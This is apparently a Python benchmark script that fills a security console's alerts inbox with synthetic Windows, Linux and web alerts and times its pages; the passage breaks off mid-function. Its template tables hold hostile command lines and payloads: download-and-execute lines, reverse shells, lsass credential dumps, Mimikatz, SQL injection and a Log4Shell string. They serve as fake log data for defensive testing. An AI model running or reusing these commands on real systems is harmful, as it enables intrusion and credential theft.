"""Benchmark of the alerts inbox at volume: what an analyst waits for with a million alerts, on
SQLite and on PostgreSQL.

    python bench/inbox.py [--alerts 1000000] [--db sqlite|postgresql|both] [--repeat 30]
                          [--keep DIR] [--only NAME,...] [--json FILE]

For each database: a fresh one (a SQLite file; PostgreSQL 15 on loopback started with
``qorgan.testing.Postgres``, fsync on), migrated, with two organisations. The first gets
``--alerts`` alerts, the second a twentieth as many, so every read must filter by organisation.
The alerts are distinct and varied (see :class:`Population` and :class:`Generator`): about 400
real rules (the built-in pack and a sample of SigmaHQ's, with their levels and classification)
whose volumes follow a steep power law, thousands of hosts, tens of thousands of users and
addresses, event times over 60 days, Windows process, PowerShell and Security events, sshd,
sudo and auditd syslog records and web access records whose text varies (command lines, paths,
documents with Russian and Kazakh names, ids, hashes). They go in through the real ingestion
service (``qorgan.incidents.alerts.ingest``, 5,000 alerts per call and per transaction, as the
API takes them), built by a second process while the first ingests. Then some older alerts are
triaged as analysts would (acknowledged, false positives, assigned) through
``qorgan.incidents.triage.bulk_triage``, which audits each one, and the database is analysed
(``ANALYZE`` on SQLite, ``VACUUM ANALYZE`` on PostgreSQL, as a DBA does after a bulk load).

Then the real console runs as its own process (uvicorn, one worker, as ``bench/ingest.py`` runs
it) and one client, signed in through the pages (password and TOTP) and holding an API token,
times each request from sending to the whole answer: the inbox page in its default view and with
filters, groupings and searches, the API's lists, groups and timeline, and bulk triage of 10,000
alerts (by ids, and by a filter). Every repetition varies the host, user, rule, term or window
(so caches do not flatter), and operations are interleaved. ``--keep DIR`` keeps the loaded
databases there and reuses them on the next run with the same ``--alerts``.
"""

from __future__ import annotations

import argparse
import glob
import importlib.util
import json
import math
import multiprocessing
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import orjson
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
from ingest import console, cpu_seconds, tail  # the sibling benchmark's helpers

SEED = 20261130
#: Event times fall in the 60 days before this moment.
END = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
SPAN = timedelta(days=60)
#: Alerts per ingestion call (and transaction): the most the API takes in one request.
BATCH = 5000
#: Rules the alerts come from, and the exponent of their power law (rank r fires ~ r^-1.3).
RULES = 400
ZIPF = 1.3
#: Share of alerts from live collection (times rise with the load); the rest come from hunts
#: over older logs (any time in the span).
LIVE = 0.85
#: Share of alerts whose source recorded no time.
UNTIMED = 0.002
SIGMA = Path(__file__).resolve().parents[1].parent / "shared" / "data" / "sigma" / "rules"
BUILT_IN = Path(__file__).resolve().parents[1] / "src" / "qorgan" / "detection" / "rules"
PASSWORD = "Bench-Inbox-Passphrase-2026!"


# --------------------------------------------------------------------------- vocabulary

SURNAMES = (
    "nurlanov", "seitkali", "abenov", "tokayev", "zhumabekov", "kassymov", "omarov", "bekturov",
    "akhmetov", "iskakov", "sarsenbayev", "mukanov", "dzhaksybekov", "ermekov", "baimukhamedov",
    "karimov", "utegenov", "suleimenov", "yessenov", "tulegenov", "abdrakhmanov", "aitbayev",
    "amanov", "baizhanov", "bekov", "dauletov", "dosmukhametov", "yerzhanov", "zhakupov",
    "zhanibekov", "ibrayev", "kairatov", "kenzhebekov", "kuanyshev", "mamyrov", "myrzakhmetov",
    "nurpeisov", "orazbayev", "ospanov", "rakhimov", "sadykov", "serikbayev", "smagulov",
    "temirkhanov", "tursunov", "umarov", "shaikenov", "yeleuov", "zhunusov", "ivanov",
    "petrov", "smirnov", "kuznetsov", "popov", "vasiliev", "pavlov", "semenov", "golubev",
    "vinogradov", "bogdanov", "vorobyov", "fedorov", "mikhailov", "belyaev", "tarasov",
    "belov", "komarov", "orlov", "kiselev", "makarov", "andreev", "kovalev", "ilyin", "gusev",
)  # fmt: skip
#: Documents and folders, as Russian- and Kazakh-speaking offices name them.
DOC_WORDS = (
    "Отчёт", "Счёт_на_оплату", "Договор", "Приказ", "Служебная_записка", "Ведомость",
    "Жалақы_ведомосы", "Есеп", "Хат", "Декларация", "Смета", "Акт_сверки", "Протокол_совещания",
    "Бюджет", "Тендер", "Накладная", "Заявление", "Кадрлық_бұйрық", "Штатное_расписание",
    "Справка", "Резюме", "Инвентаризация", "Жоспар", "Доверенность",
)  # fmt: skip
FOLDERS = (
    "Документы", "Рабочий стол", "Загрузки", "Бухгалтерия", "Кадры", "Құжаттар", "Жүктеулер",
    "Общая", "Сканы", "Архив", "Documents", "Desktop", "Downloads", "Projects",
)  # fmt: skip
DOC_EXT = (".docx", ".xlsx", ".pdf", ".docm", ".xlsm", ".zip", ".rar", ".lnk", ".hta", ".js")
SHARES = ("Бухгалтерия", "Кадры", "Общая", "Scans", "IT", "Finance", "Ортақ", "Public")
#: Windows process launches: image and command line, with placeholders filled per event.
PROCESSES = (
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
     r"C:\Users\{user}\AppData\Local\Temp\{hex8}.ps1"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -nop -w hidden -enc {b64}"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://{ext}/{hex6}')\""),
    (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c whoami /all > C:\Windows\Temp\{hex8}.txt"),
    (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c "C:\Users\{user}\{folder}\{doc}"'),
    (r"C:\Windows\System32\rundll32.exe",
     r"rundll32.exe C:\Users\{user}\AppData\Roaming\{hex6}.dll,DllRegisterServer"),
    (r"C:\Windows\System32\rundll32.exe",
     r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} "
     r"C:\Windows\Temp\{hex6}.dmp full"),
    (r"C:\Windows\System32\certutil.exe",
     r"certutil.exe -urlcache -split -f http://{ext}/{hex6}.exe C:\Users\Public\{hex6}.exe"),
    (r"C:\Windows\System32\schtasks.exe",
     r'schtasks.exe /create /tn "\Microsoft\Windows\{hex8}" /tr "C:\ProgramData\{hex6}\upd.exe" '
     r"/sc minute /mo {small}"),
    (r"C:\Windows\System32\reg.exe",
     r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {hex6} /d "
     r'"C:\Users\{user}\AppData\Roaming\{hex6}.exe" /f'),
    (r"C:\Windows\System32\net.exe", "net.exe user {user} /domain"),
    (r"C:\Windows\System32\net.exe", 'net.exe group "Domain Admins" /domain'),
    (r"C:\Windows\System32\wbem\WMIC.exe",
     r'wmic.exe /node:{internal} process call create "cmd.exe /c C:\Windows\Temp\{hex8}.bat"'),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n '
     r'"C:\Users\{user}\{folder}\{doc}"'),
    (r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\{server}\{share}\{doc}"'),
    (r"C:\Windows\System32\mshta.exe", r'mshta.exe "C:\Users\{user}\{folder}\{doc}.hta"'),
    (r"C:\Program Files\7-Zip\7z.exe",
     r"7z.exe a -p{hex8} C:\Users\{user}\AppData\Local\Temp\{hex6}.7z C:\Windows\Temp\{hex6}.dmp"),
    (r"C:\Windows\System32\bitsadmin.exe",
     r"bitsadmin.exe /transfer {hex6} /download /priority high http://{ext}/{hex6}.exe "
     r"C:\Users\Public\{hex6}.exe"),
    (r"C:\Windows\System32\msiexec.exe", "msiexec.exe /q /i http://{ext}/{hex6}.msi"),
    (r"C:\Windows\System32\sc.exe",
     r'sc.exe create {hex6} binPath= "C:\Windows\Temp\{hex6}.exe" start= auto'),
    (r"C:\Windows\System32\nltest.exe", "nltest.exe /dclist:{domain}"),
    (r"C:\Windows\System32\curl.exe",
     r"curl.exe -s -o C:\Users\{user}\AppData\Local\Temp\{hex6}.zip https://{ext}/d/{hex8}"),
    (r"C:\Windows\explorer.exe", r'explorer.exe "C:\Users\{user}\{folder}\{doc}"'),
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe",
     '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service'),
    (r"C:\Windows\System32\wevtutil.exe", "wevtutil.exe cl Security"),
    (r"C:\Windows\System32\netsh.exe",
     'netsh.exe advfirewall firewall add rule name="{hex6}" dir=in action=allow protocol=TCP '
     "localport={port}"),
    (r"C:\Users\{user}\AppData\Local\Temp\{hex6}\procdump64.exe",
     r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{hex6}.dmp"),
    (r"C:\Windows\System32\cscript.exe", r"cscript.exe //nologo C:\Users\{user}\{folder}\{doc}.js"),
)  # fmt: skip
PARENTS = (
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
)
SCRIPTS = (
    "$c = New-Object System.Net.WebClient; $c.DownloadFile('http://{ext}/{hex6}.ps1', "
    '"$env:TEMP\\{hex8}.ps1"); & "$env:TEMP\\{hex8}.ps1"',
    "Get-ADUser -Filter * -Properties * | Export-Csv C:\\Users\\{user}\\{folder}\\{hex6}.csv",
    "Invoke-Mimikatz -Command 'sekurlsa::logonpasswords' | Out-File C:\\Windows\\Temp\\{hex6}",
    "Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\ProgramData\\{hex6}",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String('{b64}'))",
    "Get-ChildItem -Path '\\\\{server}\\{share}' -Recurse -Include *.docx,*.xlsx | "
    "Compress-Archive -DestinationPath C:\\Users\\{user}\\{hex6}.zip",
    "Start-Process -FilePath 'C:\\Users\\{user}\\{folder}\\{doc}' -WindowStyle Hidden",
)
SUDO_COMMANDS = (
    "/usr/sbin/setenforce 0", "/bin/systemctl stop auditd", "/usr/bin/cat /etc/shadow",
    "/usr/bin/apt-get install -y nmap", "/usr/bin/tcpdump -i any -w /tmp/{hex6}.pcap",
    "/usr/sbin/useradd -m -s /bin/bash {user}", "/usr/bin/crontab -e",
    "/usr/bin/chmod 4755 /tmp/.{hex6}", "/usr/bin/docker run --privileged -v /:/mnt alpine",
)  # fmt: skip
LINUX_PROCESSES = (
    ("/usr/bin/curl", "curl -fsSL http://{ext}/{hex6}.sh | bash"),
    ("/usr/bin/wget", "wget -q http://{ext}/{hex6} -O /tmp/.{hex6}"),
    ("/usr/bin/base64", "base64 -d /tmp/{hex8}.b64"),
    ("/usr/bin/nc", "nc -e /bin/sh {ext} {port}"),
    ("/usr/bin/python3", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"),
    ("/usr/bin/find", "find / -perm -4000 -type f -exec ls -la {{}} ;"),
    ("/usr/bin/crontab", "crontab -l -u {user}"),
    ("/usr/bin/chattr", "chattr +i /etc/ld.so.preload"),
    ("/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no {user}@{internal}"),
    ("/usr/bin/history", "history -c"),
)  # fmt: skip
WEB_PATHS = (
    ("/index.php", "id={n}%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("/cgi-bin/../../../../etc/passwd", None),
    ("/uploads/{hex6}.php", "cmd=cat+/etc/passwd"),
    ("/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E&page={small}"),
    ("/api/v2/login", "user=${{jndi:ldap://{ext}:1389/{hex6}}}"),
    ("/manager/html/upload", "org.apache.catalina.filters.CSRF_NONCE={hex8}"),
    ("/wp-login.php", None),
    ("/.env", None),
    ("/.git/config", None),
    ("/ru/services/{n}", "lang=ru&session={hex8}"),
    ("/kk/qyzmetter/{n}", "id={n}"),
    ("/api/v1/citizen/{n}/documents", "token={hex8}{hex8}"),
    ("/shell.php", "c=whoami%3Bid%3Buname+-a"),
    ("/phpmyadmin/index.php", "route=/sql&db=egov_{small}"),
    ("/", "page=..%2F..%2F..%2Fwindows%2Fwin.ini"),
    ("/actuator/env", None),
    ("/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail.{domain}%2fowa%2f"),
)  # fmt: skip
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.{small}.{n} Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "sqlmap/1.8.{small}#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00{n})",
    "curl/8.{small}.0",
    "python-requests/2.32.{small}",
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
)
#: External address blocks that scanners come from (synthetic addresses within them).
EXTERNAL = (
    "5.188", "45.95", "45.134", "80.66", "91.240", "92.63", "185.220", "185.156", "193.32",
    "194.26", "195.54", "141.98", "146.70", "176.111", "178.20", "212.70", "62.204", "89.248",
)  # fmt: skip
DOMAIN = "akimat.gov.kz"
ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
PROCESS_CATEGORIES = (
    "process_creation", "registry_set", "registry_event", "image_load", "file_event",
    "network_connection", "process_access", "dns_query",
)  # fmt: skip


# --------------------------------------------------------------------------- rules


@dataclass(frozen=True)
class Rule:
    meta: Any  # qorgan.detection.plan.RuleMeta
    kind: str  # which events it fires on: process, powershell, security, linux, web
    classification: dict[str, Any]


def _kind(logsource: dict[str, str]) -> str | None:
    product, category = logsource.get("product"), logsource.get("category")
    service = logsource.get("service")
    if product == "windows":
        if category in PROCESS_CATEGORIES:
            return "process"
        if category in ("ps_script", "ps_module") or service == "powershell":
            return "powershell"
        if service in ("security", "system", "windefend"):
            return "security"
        return None
    if product == "linux":
        return "linux"
    if category in ("webserver", "proxy") or product == "web":
        return "web"
    return None


def _meta(document: dict[str, Any], path: Path) -> Any:
    from qorgan.detection.plan import RuleMeta

    return RuleMeta(
        id=str(document["id"]),
        title=str(document["title"]),
        level=str(document.get("level") or "informational"),
        status=document.get("status"),
        tags=tuple(str(t) for t in document.get("tags") or ()),
        logsource=tuple((str(k), str(v)) for k, v in (document.get("logsource") or {}).items()),
        path=str(path),
        attributes=tuple(
            (k, document[k]) for k in ("kz_cert", "rsit", "criminal_code") if k in document
        ),
    )


def load_rules(random_: random.Random) -> list[Rule]:
    """:data:`RULES` rules, most frequent first: the built-in pack's (but correlations and
    Zeek's) and a sample of SigmaHQ's for the event kinds generated; a few noisy low or medium
    rules lead, and the handful of critical ones are spread through the ranks."""
    from qorgan.detection.classification import classify

    found: list[tuple[Any, str]] = []
    paths = sorted(BUILT_IN.rglob("*.yml"))
    sigma = sorted(SIGMA.rglob("*.yml"))
    if not sigma:
        raise SystemExit(f"the SigmaHQ rules are needed in {SIGMA} (see ../shared/data)")
    built_in = len(paths)
    for n, path in enumerate([*paths, *sigma]):
        for document in yaml.load_all(path.read_text(), Loader=yaml.CSafeLoader):
            if not isinstance(document, dict) or "correlation" in document:
                continue
            kind = _kind(document.get("logsource") or {})
            if kind is None or "id" not in document or "title" not in document:
                continue
            if n >= built_in and document.get("status") == "deprecated":
                continue
            found.append((_meta(document, path), kind))
    own = [f for f in found if str(BUILT_IN) in f[0].path]
    others = [f for f in found if str(BUILT_IN) not in f[0].path]
    random_.shuffle(others)
    # SigmaHQ's rules are mostly Windows process rules; keep some of every kind.
    quota = {"process": 230, "powershell": 30, "security": 50, "linux": 45, "web": 40}
    taken: list[tuple[Any, str]] = list(own)
    for kind, want in quota.items():
        taken += [f for f in others if f[1] == kind][:want]
    taken = taken[:RULES]
    critical = [f for f in taken if f[0].level == "critical"][:8]
    quiet = [f for f in taken if f[0].level in ("informational", "low", "medium")]
    random_.shuffle(quiet)
    leaders = quiet[:12]
    rest = [f for f in taken if f not in leaders and f not in critical]
    random_.shuffle(rest)
    ranked = leaders + rest
    for n, rule in enumerate(critical):  # the most frequent critical rule at rank ~25
        ranked.insert(min(len(ranked), 24 + n * 48), rule)
    return [Rule(meta, kind, classify(meta).to_dict()) for meta, kind in ranked[:RULES]]


# --------------------------------------------------------------------------- population


def _zipf_cumulative(count: int, exponent: float) -> list[float]:
    total, out = 0.0, []
    for rank in range(1, count + 1):
        total += rank**-exponent
        out.append(total)
    return out


@dataclass
class Population:
    """One organisation's hosts, users and addresses, and how often each appears."""

    prefix: str
    hosts: dict[str, list[str]]
    users: list[str]
    internal: list[str]
    external: list[str]
    address_of: dict[str, str]

    @classmethod
    def make(cls, prefix: str, scale: float, random_: random.Random) -> Population:
        def count(n: int) -> int:
            return max(4, int(n * scale))

        hosts = {
            "workstation": [f"{prefix}-ws-{n:04d}" for n in range(1, count(2400) + 1)],
            "server": [f"{prefix}-srv-{n:03d}" for n in range(1, count(180) + 1)]
            + [f"{prefix}-dc{n:02d}" for n in range(1, 5)]
            + [f"{prefix}-fs{n:02d}" for n in range(1, 7)],
            "linux": [
                f"{prefix}-{role}-{n:02d}"
                for role in ("web", "app", "db", "mail", "vpn", "k8s", "log", "dns")
                for n in range(1, count(40) + 1)
            ],
            "web": [f"{prefix}-iis-{n:02d}" for n in range(1, count(30) + 1)]
            + [f"{prefix}-nginx-{n:02d}" for n in range(1, count(30) + 1)],
        }
        users: list[str] = []
        seen: set[str] = set()
        while len(users) < count(20_000):
            initials = chr(97 + random_.randrange(26))
            if random_.random() < 0.3:  # a second initial tells namesakes apart
                initials += chr(97 + random_.randrange(26))
            name = f"{initials}.{random_.choice(SURNAMES)}"
            if random_.random() < 0.2:
                name += str(random_.randrange(1, 100))
            if name not in seen:
                seen.add(name)
                users.append(name)
        users[:8] = ["svc_backup", "svc_sql", "administrator", "svc_scan", "svc_1c",
                     "helpdesk", "svc_exchange", "svc_veeam"]  # fmt: skip
        internal_set: set[str] = set()
        while len(internal_set) < count(25_000):
            internal_set.add(
                f"10.{random_.randrange(1, 64)}.{random_.randrange(256)}."
                f"{random_.randrange(1, 255)}"
            )
        internal = sorted(internal_set)
        random_.shuffle(internal)
        external_set: set[str] = set()
        while len(external_set) < count(12_000):
            block = random_.choice(EXTERNAL)
            external_set.add(f"{block}.{random_.randrange(256)}.{random_.randrange(1, 255)}")
        external = sorted(external_set)
        random_.shuffle(external)
        every = [h for group in hosts.values() for h in group]
        address_of = {host: internal[n % len(internal)] for n, host in enumerate(every)}
        return cls(prefix, hosts, users, internal, external, address_of)


class Generator:
    """Alerts in the shape of ``qorgan hunt --format jsonl`` (docs/alerts.md), each distinct."""

    def __init__(self, rules: list[Rule], population: Population, seed: int) -> None:
        self.rules = rules
        self.population = population
        self.seed = seed
        self.rule_weights = _zipf_cumulative(len(rules), ZIPF)
        p = population
        self.host_weights = {k: _zipf_cumulative(len(v), 0.9) for k, v in p.hosts.items()}
        self.user_weights = _zipf_cumulative(len(p.users), 0.8)
        self.internal_weights = _zipf_cumulative(len(p.internal), 0.6)
        self.external_weights = _zipf_cumulative(len(p.external), 1.0)
        # Every rule has its own favourite hosts and users (a noisy rule on a few servers).
        offsets = random.Random(seed)
        self.offsets = [offsets.randrange(1_000_000) for _ in rules]
        self.templates = [offsets.randrange(1_000_000) for _ in rules]
        self.r = random.Random(seed)
        self.index = 0

    # -- draws

    def pick(self, items: list[str], weights: list[float], offset: int = 0) -> str:
        r = self.r
        n = r.choices(range(len(items)), cum_weights=weights)[0]
        return items[(n + offset) % len(items)]

    def host(self, kind: str, rule: int) -> str:
        group = "server" if kind == "security" and self.r.random() < 0.35 else kind
        if group in ("process", "powershell", "security"):
            group = "server" if self.r.random() < 0.12 else "workstation"
        hosts = self.population.hosts[group]
        return self.pick(hosts, self.host_weights[group], self.offsets[rule])

    def user(self, rule: int) -> str:
        return self.pick(self.population.users, self.user_weights, self.offsets[rule] // 7)

    def internal(self) -> str:
        return self.pick(self.population.internal, self.internal_weights)

    def external(self, rule: int) -> str:
        return self.pick(self.population.external, self.external_weights, self.offsets[rule] // 3)

    def fill(self, template: str, user: str, rule: int) -> str:
        r = self.r
        values = {
            "user": user,
            "hex8": f"{r.getrandbits(32):08x}",
            "hex6": f"{r.getrandbits(24):06x}",
            "b64": "".join(r.choices(ALPHABET + "+/", k=r.randrange(40, 120))),
            "ext": self.external(rule),
            "internal": self.internal(),
            "folder": r.choice(FOLDERS),
            "doc": f"{r.choice(DOC_WORDS)}_{r.randrange(1, 2000)}{r.choice(DOC_EXT)}",
            "server": r.choice(self.population.hosts["server"][-6:]),
            "share": r.choice(SHARES),
            "pid": r.randrange(400, 30000),
            "small": r.randrange(1, 30),
            "n": r.randrange(1, 100_000),
            "port": r.randrange(1024, 65535),
            "domain": DOMAIN,
        }  # fmt: skip
        return template.format(**values)

    def guid(self) -> str:
        value = f"{self.r.getrandbits(128):032X}"
        return f"{{{value[:8]}-{value[8:12]}-{value[12:16]}-{value[16:20]}-{value[20:]}}}"

    # -- events

    def process(self, rule: int, at: datetime, host: str) -> dict[str, Any]:
        r = self.r
        user = self.user(rule)
        image, command = PROCESSES[(self.templates[rule] + r.randrange(2)) % len(PROCESSES)]
        domain = self.population.prefix.upper()
        return {
            "EventID": 1,
            "Provider_Name": "Microsoft-Windows-Sysmon",
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": f"{host}.{DOMAIN}",
            "UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            "ProcessGuid": self.guid(),
            "ProcessId": r.randrange(400, 30000),
            "Image": self.fill(image, user, rule),
            "FileVersion": "10.0.19041.3996 (WinBuild.160101.0800)",
            "Description": image.rsplit("\\", 1)[-1],
            "Company": "Microsoft Corporation",
            "CommandLine": self.fill(command, user, rule),
            "CurrentDirectory": f"C:\\Users\\{user}\\{r.choice(FOLDERS)}\\",
            "User": f"{domain}\\{user}",
            "LogonGuid": self.guid(),
            "LogonId": hex(r.getrandbits(32)),
            "TerminalSessionId": r.randrange(0, 4),
            "IntegrityLevel": r.choice(("Medium", "High", "System")),
            "Hashes": f"SHA256={r.getrandbits(256):064X},IMPHASH={r.getrandbits(128):032X}",
            "ParentProcessGuid": self.guid(),
            "ParentProcessId": r.randrange(400, 30000),
            "ParentImage": r.choice(PARENTS),
            "ParentUser": f"{domain}\\{user}",
        }

    def powershell(self, rule: int, at: datetime, host: str) -> dict[str, Any]:
        r = self.r
        user = self.user(rule)
        script = SCRIPTS[(self.templates[rule] + r.randrange(2)) % len(SCRIPTS)]
        return {
            "EventID": 4104,
            "Provider_Name": "Microsoft-Windows-PowerShell",
            "Channel": "Microsoft-Windows-PowerShell/Operational",
            "Computer": f"{host}.{DOMAIN}",
            "MessageNumber": 1,
            "MessageTotal": 1,
            "ScriptBlockText": self.fill(script, user, rule),
            "ScriptBlockId": self.guid()[1:-1].lower(),
            "Path": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{r.getrandbits(24):06x}.ps1",
            "UserID": f"S-1-5-21-{r.getrandbits(30)}-{r.getrandbits(30)}-{r.randrange(1000, 9999)}",
        }

    def security(self, rule: int, at: datetime, host: str) -> dict[str, Any]:
        r = self.r
        user = self.user(rule)
        event_id = (4625, 4624, 4648, 4672, 4720, 4732, 4768, 4769, 4776, 5145, 7045, 1102)[
            (self.templates[rule] + r.randrange(2)) % 12
        ]
        remote = self.external(rule) if r.random() < 0.2 else self.internal()
        domain = self.population.prefix.upper()
        event: dict[str, Any] = {
            "EventID": event_id,
            "Provider_Name": "Microsoft-Windows-Security-Auditing",
            "Channel": "Security",
            "Computer": f"{host}.{DOMAIN}",
            "EventRecordID": r.randrange(1, 90_000_000),
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{host.upper()}$",
            "SubjectDomainName": domain,
            "SubjectLogonId": hex(r.getrandbits(24)),
            "TargetUserName": user,
            "TargetDomainName": domain,
            "LogonType": r.choice((2, 3, 3, 3, 7, 10)),
            "LogonProcessName": r.choice(("NtLmSsp", "Kerberos", "User32", "Advapi")),
            "AuthenticationPackageName": r.choice(("NTLM", "Kerberos", "Negotiate")),
            "WorkstationName": self.pick(
                self.population.hosts["workstation"], self.host_weights["workstation"]
            ).upper(),
            "IpAddress": remote,
            "IpPort": r.randrange(1024, 65535),
            "ProcessName": r.choice(("-", r"C:\Windows\System32\lsass.exe", "svchost.exe")),
        }
        if event_id == 4625:
            event |= {"Status": "0xc000006d", "SubStatus": r.choice(("0xc000006a", "0xc0000064"))}
        elif event_id == 5145:
            share = r.choice(SHARES)
            event |= {
                "ShareName": f"\\\\*\\{share}",
                "RelativeTargetName": f"{r.choice(FOLDERS)}\\{r.choice(DOC_WORDS)}_"
                f"{r.randrange(1, 2000)}{r.choice(DOC_EXT)}",
                "AccessMask": "0x120089",
            }
        elif event_id == 7045:
            event |= {
                "ServiceName": f"{r.getrandbits(24):06x}",
                "ImagePath": f"%COMSPEC% /b /c start /b /min powershell -nop -enc "
                f"{r.getrandbits(200):x}",
                "ServiceType": "user mode service",
                "StartType": "demand start",
            }
        elif event_id in (4768, 4769):
            event |= {
                "ServiceName": r.choice(("krbtgt", f"MSSQLSvc/{host}:1433", "cifs/fs01")),
                "TicketEncryptionType": r.choice(("0x17", "0x12")),
                "TicketOptions": "0x40810000",
            }
        return event

    def linux(self, rule: int, at: datetime, host: str) -> dict[str, Any]:
        r = self.r
        user = self.user(rule)
        ip = self.external(rule) if r.random() < 0.8 else self.internal()
        port, pid = r.randrange(1024, 65535), r.randrange(300, 4_000_000)
        form = (self.templates[rule] + r.randrange(2)) % 7
        if form == 0:
            message = f"Failed password for invalid user {user} from {ip} port {port} ssh2"
        elif form == 1:
            message = f"Failed password for {user} from {ip} port {port} ssh2"
        elif form == 2:
            key = "".join(r.choices(ALPHABET, k=43))
            message = f"Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{key}"
        elif form == 3:
            message = (
                f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                f"ruser= rhost={ip}  user={user}"
            )
        elif form == 4:
            command = self.fill(r.choice(SUDO_COMMANDS), user, rule)
            message = (
                f"{user} : TTY=pts/{r.randrange(8)} ; PWD=/home/{user} ; USER=root ; "
                f"COMMAND={command}"
            )
        else:
            image, template = r.choice(LINUX_PROCESSES)
            command = self.fill(template, user, rule)
            return {
                "type": "EXECVE",
                "hostname": host,
                "Image": image,
                "CommandLine": command,
                "User": user,
                "ParentImage": r.choice(("/bin/bash", "/usr/bin/sh", "/usr/sbin/cron")),
                "CurrentDirectory": f"/home/{user}",
                "ProcessId": pid,
                "msg": f"audit({at.timestamp():.3f}:{r.randrange(1, 10**7)})",
                "src_ip": ip if form == 5 else None,
            }
        program = "sudo" if form == 4 else "sshd"
        return {
            "timestamp": at.isoformat(timespec="seconds").replace("+00:00", "Z"),
            "hostname": host,
            "program": program,
            "pid": pid,
            "facility": "authpriv",
            "severity": "notice",
            "message": message,
            "user": user,
            "src_ip": None if program == "sudo" else ip,
            "src_port": None if program == "sudo" else port,
            "session_id": f"{r.getrandbits(48):012x}",
        }

    def web(self, rule: int, at: datetime, host: str) -> dict[str, Any]:
        r = self.r
        stem, query = WEB_PATHS[(self.templates[rule] + r.randrange(3)) % len(WEB_PATHS)]
        stem = self.fill(stem, "-", rule)
        query = self.fill(query, "-", rule) if query else None
        return {
            "c-ip": self.external(rule),
            "c-username": None,
            "date": at.strftime("%Y-%m-%d"),
            "time": at.strftime("%H:%M:%S"),
            "s-computername": host,
            "s-ip": self.population.address_of.get(host, "10.0.0.1"),
            "s-port": 443,
            "cs-host": r.choice(("portal.egov.kz", f"mail.{DOMAIN}", f"www.{DOMAIN}")),
            "cs-method": r.choice(("GET", "GET", "GET", "POST", "HEAD")),
            "cs-uri-stem": stem,
            "cs-uri-query": query,
            "cs-version": "HTTP/1.1",
            "sc-status": r.choice((200, 301, 302, 400, 403, 404, 404, 500)),
            "sc-bytes": r.randrange(200, 90000),
            "time-taken": r.randrange(1, 900),
            "cs-referer": r.choice((None, "-", "https://portal.egov.kz/ru/services")),
            "cs-user-agent": self.fill(r.choice(AGENTS), "-", rule),
        }

    # -- alerts

    def alert(self, rule_index: int, at: datetime | None, path_key: int) -> dict[str, Any]:
        rule = self.rules[rule_index]
        moment = at or END
        host = self.host(rule.kind, rule_index)
        event = getattr(self, rule.kind)(rule_index, moment, host)
        form = {"linux": "syslog", "web": "accesslog"}.get(rule.kind, "evtx")
        self.index += 1
        meta = rule.meta
        name = {
            "process": "Microsoft-Windows-Sysmon%4Operational.evtx",
            "powershell": "Microsoft-Windows-PowerShell%4Operational.evtx",
            "security": "Security.evtx",
            "linux": "auth.log",
            "web": "access.log",
        }[rule.kind]
        return {
            "rule": {
                "id": meta.id,
                "title": meta.title,
                "level": meta.level,
                "tags": list(meta.tags),
                "status": meta.status,
                "path": meta.path,
            },
            "time": None
            if at is None
            else at.isoformat(timespec="milliseconds" if form == "evtx" else "seconds").replace(
                "+00:00", "Z"
            ),
            "host": host,
            "source": {
